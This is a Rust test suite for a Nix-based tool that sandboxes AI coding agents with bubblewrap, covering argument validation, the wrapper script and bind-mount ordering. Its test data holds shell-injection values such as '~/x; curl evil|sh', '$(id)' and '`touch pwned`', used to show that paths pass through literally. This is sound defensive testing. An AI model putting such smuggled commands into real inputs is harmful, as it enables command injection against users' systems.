//! The Nix library (nix/lib) evaluated offline with the real `nix-instantiate` against the test
//! doubles in nix/tests/doubles, plus running the rendered wrapper script with bash and the real
//! launcher (built by cargo) on a fake `bwrap` that records its argv.
//!
//! Without `nix-instantiate` these tests skip loudly; with `JAILGEN_REQUIRE_NIX=1` (CI) they fail.
//! The conformance test against real jail.nix needs `JAILGEN_JAIL_NIX` (`.ci/run` sets it from
//! ../shared/upstream); without it it says loudly that it was skipped, and in CI it fails.

use std::collections::BTreeMap;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

mod common;
use common::{have_nix, loud, nix_eval, nix_eval_json, root};

#[test]
fn nix_evaluation_suites_pass() {
    if !have_nix("nix_evaluation_suites_pass") {
        return;
    }
    let result = nix_eval_json(&["nix/tests"]);
    let passed = result["passed"].as_array().expect("passed list");
    let failed = result["failed"].as_array().expect("failed list");
    for name in passed {
        eprintln!("ok   {}", name.as_str().unwrap_or("?"));
    }
    for f in failed {
        eprintln!(
            "FAIL {}\n  got:      {}\n  expected: {}",
            f["name"], f["expr"], f["expected"]
        );
    }
    assert!(failed.is_empty(), "{} Nix test(s) failed", failed.len());
    // Guards against a suite, or tests within one, silently dropping out of nix/tests/default.nix.
    let suites: std::collections::BTreeSet<&str> = passed
        .iter()
        .filter_map(|n| n.as_str()?.split(':').next())
        .collect();
    for suite in [
        "compat", "double", "errors", "options", "ordering", "paths", "presets", "text",
    ] {
        assert!(suites.contains(suite), "no test of suite `{suite}` ran");
    }
    assert!(passed.len() >= 88, "only {} Nix tests ran", passed.len());
}

#[test]
fn flake_nix_parses() {
    if !have_nix("flake_nix_parses") {
        return;
    }
    for file in [
        "flake.nix",
        "nix/package.nix",
        "nix/launcher.nix",
        "nix/checks.nix",
        "nix/lib/default.nix",
    ] {
        let out = Command::new("nix-instantiate")
            .arg("--parse")
            .arg(root().join(file))
            .output()
            .expect("run nix-instantiate --parse");
        assert!(
            out.status.success(),
            "{file} does not parse:\n{}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
}

#[test]
fn flake_outputs_evaluate_with_doubles_for_both_systems() {
    if !have_nix("flake_outputs_evaluate_with_doubles_for_both_systems") {
        return;
    }
    let v = nix_eval_json(&["nix/tests/flake-outputs.nix"]);
    for system in ["x86_64-linux", "aarch64-linux"] {
        let s = &v[system];
        assert_eq!(s["default"], "jailgen", "{system}: {s}");
        let packages: Vec<&str> = s["packages"]
            .as_array()
            .expect("package names")
            .iter()
            .filter_map(|p| p.as_str())
            .collect();
        for p in [
            "default",
            "jailgen",
            "jailgen-launch",
            "jailed-amp",
            "jailed-claude-code",
            "jailed-codex",
            "jailed-crush",
            "jailed-cursor-agent",
            "jailed-gemini-cli",
            "jailed-goose",
            "jailed-opencode",
            "jailed-pi",
            "jailed-qwen-code",
        ] {
            assert!(
                packages.contains(&p),
                "{system}: package {p} missing from {packages:?}"
            );
        }
        let lib: Vec<&str> = s["lib"]
            .as_array()
            .expect("lib names")
            .iter()
            .filter_map(|p| p.as_str())
            .collect();
        for name in [
            "makeJailedAgent",
            "makeJailedClaudeCode",
            "makeJailedQwenCode",
            "makeJailedGoose",
            "makeJailedHermesAgent",
            "commonPkgs",
            "commonJailOptions",
            "openUrls",
            "agentPackages",
            "presets",
            "internals",
        ] {
            assert!(
                lib.contains(&name),
                "{system}: lib.{name} missing from {lib:?}"
            );
        }
        assert_eq!(s["jailedClaudeBin"], "jailed-claude-code");
        assert_eq!(
            s["checks"],
            serde_json::json!(["jailgen", "nix-library", "nix-style"])
        );
        assert_eq!(s["version"], env!("CARGO_PKG_VERSION"));
        assert_eq!(s["claudeText"], true);
        for tool in [
            "cargo",
            "rustc",
            "clippy",
            "rustfmt",
            "nixfmt",
            "bubblewrap",
        ] {
            assert!(
                s["devShell"]
                    .as_array()
                    .is_some_and(|l| l.iter().any(|p| p == tool)),
                "{system}: devShell lacks {tool}: {}",
                s["devShell"]
            );
        }
        assert_eq!(s["internalsJailHasCombinators"], true);
        assert_eq!(s["formatter"], "nixfmt", "{system}");
        assert_eq!(s["libHasOpenUrls"], true, "{system}");
    }
    // jailed-agents' binary cache, and the `nix flake init -t` template.
    assert_eq!(
        v["nixConfig"]["extra-substituters"],
        serde_json::json!(["https://cache.numtide.com"])
    );
    assert!(
        v["nixConfig"]["extra-trusted-public-keys"][0]
            .as_str()
            .is_some_and(|k| k.starts_with("niks3.numtide.com-1:")),
        "{}",
        v["nixConfig"]
    );
    assert_eq!(
        v["template"]["files"],
        serde_json::json!(["flake.nix", "jails.nix", "jails.yaml"])
    );
}

/// Evaluates `expr` (with `h`, the helpers, in scope) expecting failure; returns stderr.
fn eval_error(expr: &str) -> String {
    let full =
        format!("let h = import ./nix/tests/helpers.nix {{ }}; in builtins.deepSeq ({expr}) true");
    let out = nix_eval(&["-E", &full]);
    assert!(!out.status.success(), "expected `{expr}` to fail");
    String::from_utf8_lossy(&out.stderr).into_owned()
}

#[test]
fn bad_arguments_name_the_argument_and_show_a_corrected_example() {
    if !have_nix("bad_arguments_name_the_argument_and_show_a_corrected_example") {
        return;
    }
    let agent = |args: &str| {
        format!(
            "(h.jailgen.makeJailedAgent ({{ name = \"my-agent\"; pkg = h.pkgs.hello; configPaths = [ ]; }} // {args})).calls"
        )
    };
    let cases = [
        (
            agent("{ extraReadonlyDirs = [ \"docs\" ]; }"),
            vec![
                "the path `docs` in `extraReadonlyDirs` is relative",
                "For example:",
                "extraReadonlyDirs = [ \"~/.config/my-agent\"",
            ],
        ),
        (
            agent("{ extraReadonlyIfExists = [ \".gitconfig\" ]; }"),
            vec![
                "the path `.gitconfig` in `extraReadonlyIfExists` is relative",
                "extraReadonlyIfExists = [ \"~/.config/my-agent\"",
            ],
        ),
        (
            agent("{ extraReadwriteDirs = [ \"~/../etc\" ]; }"),
            vec!["`~/../etc` in `extraReadwriteDirs` contains a `..` component"],
        ),
        (
            agent("{ configPaths = [ \"~/a\\nb\" ]; }"),
            vec!["in `configPaths` contains a newline"],
        ),
        (
            agent("{ extraCombinators = [ \"gpuu\" ]; }"),
            vec![
                "`extraCombinators` names `gpuu`",
                "camera, gpu, gui",
                "extraCombinators = [ \"gpu\"",
            ],
        ),
        (
            agent("{ git = \"closed\"; }"),
            vec![
                "`git` must be \"protect\" or \"open\", got `closed`",
                "git = \"open\";",
            ],
        ),
        (
            agent("{ forwardEnv = [ \"$(id)\" ]; }"),
            vec![
                "`forwardEnv` entry `$(id)` is not an environment variable name",
                "forwardEnv = [ \"ANTHROPIC_API_KEY\" ];",
            ],
        ),
        (
            agent("{ env.TOKEN = h.harness.jail.combinators.noescape \"$TOKEN\"; }"),
            vec!["`env.TOKEN` must be a string", "use forwardEnv for secrets"],
        ),
        (
            agent("{ hide = [ \"../x\" ]; }"),
            vec!["`hide` pattern `../x` must be a glob relative to the working directory"],
        ),
        (
            agent("{ network = \"no\"; }"),
            vec!["`network` must be true or false", "network = true;"],
        ),
        (
            "(h.jailgen.makeJailedCodex { name = \"my agent\"; }).name".to_string(),
            vec!["jailgen.makeJailedAgent (`my agent`): `name` must be a command name"],
        ),
        (
            agent("{ extraDirs = [ \"~/x\" ]; }"),
            vec!["unexpected argument 'extraDirs'"],
        ),
        (
            "((import ./nix/lib { inherit (h) pkgs; jail = h.harness.jail; agentPackages = { }; }).makeJailedAmp { }).text".to_string(),
            vec![
                "jailgen.makeJailedAmp: llm-agents has no package `amp`",
                "makeJailedAmp { pkg = pkgs.amp; }",
            ],
        ),
        // jailed-agents' argument names (nix/lib/compat.nix).
        (
            agent("{ fwdEnv = \"ANTHROPIC_API_KEY\"; }"),
            vec!["`fwdEnv` must be a list.", "fwdEnv = [ \"ANTHROPIC_API_KEY\" ];"],
        ),
        (
            agent("{ fwdEnv = [ \"NOT-A-NAME\" ]; }"),
            vec!["`forwardEnv` entry `NOT-A-NAME` is not an environment variable name."],
        ),
        (
            agent("{ enableGitWorktrees = { enable = true; directory = \"~/wt\"; }; }"),
            vec![
                "`enableGitWorktrees` has unknown key `directory`",
                "enableGitWorktrees = { enable = true; dir = \"~/worktrees\"; mountGitConfig = true; };",
            ],
        ),
        (
            agent("{ enableGitWorktrees = \"yes\"; }"),
            vec!["`enableGitWorktrees` must be true, false or { enable; dir; mountGitConfig; }."],
        ),
        (
            agent("{ enableGitWorktrees = { enable = true; dir = \"wt\"; }; }"),
            vec!["`enableGitWorktrees.dir` must be an absolute path or one under `~/`, got `wt`."],
        ),
        (
            agent("{ nixConfigDir = { writable = true; }; }"),
            vec!["`nixConfigDir` must be a path string or { path; writable; }."],
        ),
        (
            agent("{ nixConfigDir = { path = \"~/.config/nix\"; writable = \"yes\"; }; }"),
            vec!["`nixConfigDir.writable` must be true or false."],
        ),
        (
            agent("{ nixConfigDir = \".config/nix\"; }"),
            vec!["`nixConfigDir` must be an absolute path or one under `~/`, got `.config/nix`."],
        ),
        (
            agent("{ enableOpenUrls = \"true\"; }"),
            vec!["`enableOpenUrls` must be true or false.", "enableOpenUrls = true;"],
        ),
        (
            agent("{ extraJailOptions = \"gpu\"; }"),
            vec!["`extraJailOptions` must be a list."],
        ),
        (
            "(h.jailgen.makeJailedPi { defaultExtraPkgs = h.pkgs.hello; }).calls".to_string(),
            vec!["jailgen.makeJailedPi: `defaultExtraPkgs` must be a list of packages."],
        ),
    ];
    for (expr, needles) in cases {
        let stderr = eval_error(&expr);
        for needle in needles {
            assert!(
                stderr.contains(needle),
                "error for `{expr}` lacks `{needle}`:\n{stderr}"
            );
        }
    }
}

/// Paths an attacker controlling jails.yaml might try, all valid for the library.
const HOSTILE_PATHS: &[&str] = &[
    "~/plain",
    "~/my dir",
    "~/it's",
    "~/\"quoted\"",
    "~/$HOME/$(id)",
    "~/x; curl evil|sh",
    "~/`touch pwned`",
    "~/star*glob?[a]",
    "~/tab\there",
    "~/ünïcødé/日本",
    "~/-leading-dash",
    "~/back\\slash",
    "~/~tilde",
    "/abs/with space",
    "/abs/$(id);`id`'\"",
    "/abs/*",
    "~",
];

/// Formerly `shell_words_decode_to_the_input_path_with_bash`: no shell sees a path any more,
/// so what matters is that each reaches the launcher's policy unchanged, as one grant.
#[test]
fn hostile_paths_reach_the_policy_unchanged() {
    if !have_nix("hostile_paths_reach_the_policy_unchanged") {
        return;
    }
    let list = serde_json::to_string(HOSTILE_PATHS).expect("json");
    let expr = format!(
        "let h = import ./nix/tests/helpers.nix {{ }}; in h.policyOf (h.jailgen.makeJailedAgent {{
           name = \"a\"; pkg = h.pkgs.hello; configPaths = [ ];
           extraReadwriteDirs = builtins.fromJSON {}; }})",
        serde_json::to_string(&list).expect("json string")
    );
    let policy = nix_eval_json(&["-E", &expr]);
    let got: std::collections::BTreeSet<&str> = policy["readwrite"]
        .as_array()
        .expect("readwrite list")
        .iter()
        .map(|p| p.as_str().expect("a path"))
        .collect();
    let want: std::collections::BTreeSet<&str> = HOSTILE_PATHS.iter().copied().collect();
    assert_eq!(got, want);
    assert_eq!(
        policy["readwrite"].as_array().map(Vec::len),
        Some(HOSTILE_PATHS.len())
    );
}

/// A temp HOME with a project inside, a fake bwrap that writes its argv (NUL-separated) to
/// `$JAILGEN_ARGV_OUT`, and the evaluated host-mode wrapper script, which runs the real launcher
/// (built by cargo) with the fake bwrap. The fake writes a bind through a descriptor
/// (`--bind-fd FD DEST`, `--ro-bind-fd FD DEST`) as the plain bind of the path the descriptor
/// names (`--bind PATH DEST`), so that tests read binds one way.
struct FakeRun {
    dir: tempfile::TempDir,
    wrapper: PathBuf,
}

impl FakeRun {
    fn new(args_json: &str) -> FakeRun {
        let dir = tempfile::tempdir().expect("tempdir");
        let bin = dir.path().join("fake-bwrap/bin");
        std::fs::create_dir_all(&bin).expect("mkdir");
        let bwrap = bin.join("bwrap");
        std::fs::write(&bwrap, FAKE_BWRAP).expect("write fake bwrap");
        std::fs::set_permissions(&bwrap, std::fs::Permissions::from_mode(0o755)).expect("chmod");
        std::fs::create_dir_all(dir.path().join("home/project")).expect("project dir");
        let prefix = dir.path().join("fake-bwrap");
        let launcher = common::launcher();
        let text = nix_eval_json(&[
            "nix/tests/host-wrapper.nix",
            "--argstr",
            "launcher",
            launcher.to_str().expect("utf-8"),
            "--argstr",
            "bubblewrapPrefix",
            prefix.to_str().expect("utf-8"),
            "--argstr",
            "argsJson",
            args_json,
        ]);
        let wrapper = dir.path().join("wrapper");
        std::fs::write(&wrapper, text.as_str().expect("wrapper text")).expect("write wrapper");
        FakeRun { dir, wrapper }
    }

    fn home(&self) -> PathBuf {
        self.dir.path().join("home")
    }

    /// Runs the wrapper from `cwd` with only `env` set; returns (output, recorded argv).
    fn run(&self, cwd: &Path, env: &[(&str, &str)]) -> (Output, Vec<String>) {
        let argv_out = self.dir.path().join("argv");
        let _ = std::fs::remove_file(&argv_out);
        let out = Command::new("bash")
            .arg(&self.wrapper)
            .arg("agent-arg")
            .env_clear()
            .env("PATH", "/usr/bin:/bin")
            .env("HOME", self.home())
            .env("JAILGEN_ARGV_OUT", &argv_out)
            .envs(env.iter().copied())
            .current_dir(cwd)
            .output()
            .expect("run wrapper");
        let argv = std::fs::read(&argv_out)
            .map(|bytes| {
                String::from_utf8(bytes)
                    .expect("utf-8 argv")
                    .split_terminator('\0')
                    .map(str::to_owned)
                    .collect()
            })
            .unwrap_or_default();
        (out, argv)
    }
}

/// The fake bwrap: records its argv, descriptor binds written as the path they name.
const FAKE_BWRAP: &str = r#"#!/usr/bin/env bash
out=()
while (($#)); do
  case $1 in
  --bind-fd | --ro-bind-fd | --dev-bind-fd)
    flag=${1%-fd}
    out+=("$flag" "$(readlink "/proc/self/fd/$2")" "$3")
    shift 3
    ;;
  *)
    out+=("$1")
    shift
    ;;
  esac
done
printf '%s\0' "${out[@]}" > "$JAILGEN_ARGV_OUT"
"#;

fn has_seq(argv: &[String], seq: &[&str]) -> bool {
    argv.windows(seq.len())
        .any(|w| w.iter().zip(seq).all(|(a, b)| a == b))
}

fn setenv_values(argv: &[String]) -> BTreeMap<String, String> {
    argv.windows(3)
        .filter(|w| w[0] == "--setenv")
        .map(|w| (w[1].clone(), w[2].clone()))
        .collect()
}

#[test]
fn wrapper_runs_with_lang_unset_and_forwards_only_set_variables() {
    if !have_nix("wrapper_runs_with_lang_unset_and_forwards_only_set_variables") {
        return;
    }
    let run = FakeRun::new(
        r#"{"name": "my-agent", "pkg": "/usr/bin/env", "configPaths": ["~/.state dir/x", "~/.agent.json"],
            "forwardEnv": ["JG_KEY", "JG_OTHER"], "env": {"JG_LITERAL": "$(id) `id` 'q'"}}"#,
    );
    let project = run.home().join("project");

    // LANG and both forwarded variables unset: the wrapper must not abort.
    let (out, argv) = run.run(&project, &[]);
    assert!(
        out.status.success(),
        "wrapper failed with LANG unset:\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let env = setenv_values(&argv);
    assert_eq!(env.get("LANG").map(String::as_str), Some("C.UTF-8"));
    assert!(
        !env.contains_key("JG_KEY"),
        "unset JG_KEY was forwarded: {argv:?}"
    );
    assert!(!env.contains_key("JG_OTHER"));
    assert_eq!(
        env.get("JG_LITERAL").map(String::as_str),
        Some("$(id) `id` 'q'"),
        "env values are literal"
    );
    // The argv ends with the entry and the user's arguments.
    assert_eq!(
        argv[argv.len() - 3..],
        ["--", "/usr/bin/env", "agent-arg"].map(String::from)
    );
    // State paths were created on the host: a directory and a file.
    assert!(run.home().join(".state dir/x").is_dir());
    assert!(run.home().join(".agent.json").is_file());
    let home = run.home().to_str().expect("utf-8").to_owned();
    let state = format!("{home}/.state dir/x");
    assert!(has_seq(&argv, &["--bind", &state, &state]), "{argv:?}");

    // LANG set, one forwarded variable set with awkward content.
    let (out, argv) = run.run(
        &project,
        &[("LANG", "de_DE.UTF-8"), ("JG_KEY", "s3cr3t $(id) \"x\"")],
    );
    assert!(out.status.success());
    let env = setenv_values(&argv);
    assert_eq!(env.get("LANG").map(String::as_str), Some("de_DE.UTF-8"));
    assert_eq!(
        env.get("JG_KEY").map(String::as_str),
        Some("s3cr3t $(id) \"x\"")
    );
    assert!(!env.contains_key("JG_OTHER"));
}

#[test]
fn wrapper_binds_hostile_paths_as_single_arguments_in_order() {
    if !have_nix("wrapper_binds_hostile_paths_as_single_arguments_in_order") {
        return;
    }
    // The launcher refuses a missing read-only grant: an absolute one that exists.
    let abs_dir = tempfile::tempdir().expect("tempdir");
    let abs = abs_dir.path().join("a;b c");
    std::fs::create_dir_all(&abs).expect("mkdir");
    let abs = abs.to_str().expect("utf-8");
    let readonly = ["~/ro dir/it's", "~/ro dir/it's/$(id)", abs];
    let readwrite = ["~/ro dir", "~/rw `x`"];
    let args = serde_json::json!({
        "name": "my-agent", "pkg": "/usr/bin/env", "configPaths": [],
        "extraReadonlyDirs": readonly, "extraReadwriteDirs": readwrite,
    });
    let run = FakeRun::new(&args.to_string());
    let home = run.home().to_str().expect("utf-8").to_owned();
    for p in ["ro dir/it's/$(id)", "rw `x`"] {
        std::fs::create_dir_all(run.home().join(p)).expect("mkdir");
    }
    let (out, argv) = run.run(&run.home().join("project"), &[]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let expand = |p: &str| p.replacen('~', &home, 1);
    let pos = |flag: &str, p: &str| {
        let p = expand(p);
        argv.windows(3)
            .position(|w| w[0] == flag && w[1] == p && w[2] == p)
            .unwrap_or_else(|| panic!("no `{flag} {p:?} {p:?}` in {argv:?}"))
    };
    let cwd = argv
        .windows(3)
        .position(|w| w[0] == "--bind" && w[1].ends_with("/project"))
        .expect("mount-cwd");
    // Read-only binds before the working directory, parents first.
    assert!(pos("--ro-bind", abs) < cwd);
    assert!(pos("--ro-bind", "~/ro dir/it's") < pos("--ro-bind", "~/ro dir/it's/$(id)"));
    assert!(pos("--ro-bind", "~/ro dir/it's/$(id)") < cwd);
    // Read-write binds after it; the read-only children of `~/ro dir` bound again after it.
    let rw_parent = pos("--bind", "~/ro dir");
    assert!(cwd < rw_parent);
    assert!(cwd < pos("--bind", "~/rw `x`"));
    let rebinds: Vec<usize> = argv
        .windows(3)
        .enumerate()
        .filter(|(_, w)| w[0] == "--ro-bind" && w[1] == expand("~/ro dir/it's"))
        .map(|(i, _)| i)
        .collect();
    assert_eq!(rebinds.len(), 2, "{argv:?}");
    assert!(rebinds[1] > rw_parent);
}

#[test]
fn wrapper_refuses_to_start_in_home_unless_told_to() {
    if !have_nix("wrapper_refuses_to_start_in_home_unless_told_to") {
        return;
    }
    let run =
        FakeRun::new(r#"{"name": "my-agent", "pkg": "/usr/bin/env", "configPaths": ["~/.agent"]}"#);
    let (out, argv) = run.run(&run.home(), &[]);
    // The launcher's refusal: exit 125 and one line (crates/POLICY.md).
    assert_eq!(out.status.code(), Some(125));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    assert!(
        stderr.starts_with("jailgen: refusing to start: "),
        "{stderr}"
    );
    assert!(stderr.contains("JAILGEN_ALLOW_CWD=1"), "{stderr}");
    assert!(argv.is_empty(), "bwrap ran anyway");
    assert!(
        !run.home().join(".agent").exists(),
        "state dirs must not be created when the guard refuses"
    );
    let (out, argv) = run.run(&run.home(), &[("JAILGEN_ALLOW_CWD", "1")]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(!argv.is_empty());
}

#[test]
fn wrapper_scripts_pass_shellcheck() {
    if !have_nix("wrapper_scripts_pass_shellcheck") {
        return;
    }
    let have_shellcheck = Command::new("shellcheck")
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success());
    if !have_shellcheck {
        if std::env::var("JAILGEN_REQUIRE_NIX").as_deref() == Ok("1") {
            panic!(
                "wrapper_scripts_pass_shellcheck: shellcheck is not available but JAILGEN_REQUIRE_NIX=1"
            );
        }
        loud!("SKIPPED wrapper_scripts_pass_shellcheck: shellcheck not found");
        return;
    }
    let texts = nix_eval_json(&["nix/tests/wrapper-texts.nix"]);
    let texts = texts.as_object().expect("attrset of scripts");
    assert!(texts.len() >= 12);
    let dir = tempfile::tempdir().expect("tempdir");
    for (name, text) in texts {
        let file = dir.path().join(name);
        std::fs::write(&file, text.as_str().expect("script text")).expect("write script");
        // What writeShellApplication runs at build time: every severity counts.
        let out = Command::new("shellcheck")
            .arg(&file)
            .output()
            .expect("run shellcheck");
        assert!(
            out.status.success(),
            "shellcheck rejects the {name} wrapper:\n{}",
            String::from_utf8_lossy(&out.stdout)
        );
    }
}

/// Formerly `#[ignore]`d; CI sets JAILGEN_JAIL_NIX (`.ci/run` unpacks ../shared/upstream).
#[test]
fn library_matches_real_jail_nix() {
    let Some(checkout) = common::real_jail_nix("library_matches_real_jail_nix") else {
        return;
    };
    if !have_nix("library_matches_real_jail_nix") {
        return;
    }
    let checkout = checkout.to_str().expect("utf-8 path");
    let v = nix_eval_json(&["nix/tests/conformance.nix", "--arg", "jailNix", checkout]);
    fn leaves(v: &serde_json::Value, path: String, out: &mut Vec<(String, bool)>) {
        match v {
            serde_json::Value::Object(m) => {
                for (k, v) in m {
                    leaves(v, format!("{path}.{k}"), out);
                }
            }
            other => out.push((path, other.as_bool() == Some(true))),
        }
    }
    let mut results = Vec::new();
    leaves(&v, String::new(), &mut results);
    for (name, ok) in &results {
        eprintln!("{} {name}", if *ok { "ok  " } else { "FAIL" });
    }
    assert!(results.len() >= 15);
    assert!(
        results.iter().all(|(_, ok)| *ok),
        "conformance with real jail.nix failed"
    );
}

/// The hand-written Nix is nixfmt (RFC 166) clean, as nix/checks.nix's `nix-style` demands where
/// nixpkgs can be fetched; here with the nixfmt port the golden tests use (`UPDATE_EXPECT=1`
/// rewrites the files formatted).
#[test]
fn hand_written_nix_is_nixfmt_clean() {
    fn walk(dir: &Path, out: &mut Vec<PathBuf>) {
        for entry in std::fs::read_dir(dir).expect("read dir") {
            let path = entry.expect("entry").path();
            if path.is_dir() {
                walk(&path, out);
            } else if path.extension().is_some_and(|e| e == "nix") {
                out.push(path);
            }
        }
    }
    let mut files = vec![root().join("flake.nix")];
    walk(&root().join("nix"), &mut files);
    let mut unclean = Vec::new();
    for file in &files {
        let text = std::fs::read_to_string(file).expect("read");
        match nixfmt_rs::format(&text) {
            Ok(formatted) if formatted == text => {}
            // UPDATE_EXPECT=1 formats them, as for the golden files.
            Ok(formatted) if common::update() => {
                std::fs::write(file, formatted).expect("write");
            }
            Ok(formatted) => unclean.push(format!(
                "{}:\n{}",
                file.display(),
                similar::TextDiff::from_lines(&text, &formatted)
                    .unified_diff()
                    .header("as written", "nixfmt")
            )),
            Err(e) => unclean.push(format!("{}: {e:?}", file.display())),
        }
    }
    assert!(files.len() > 30, "{files:?}");
    assert!(unclean.is_empty(), "{}", unclean.join("\n"));
}
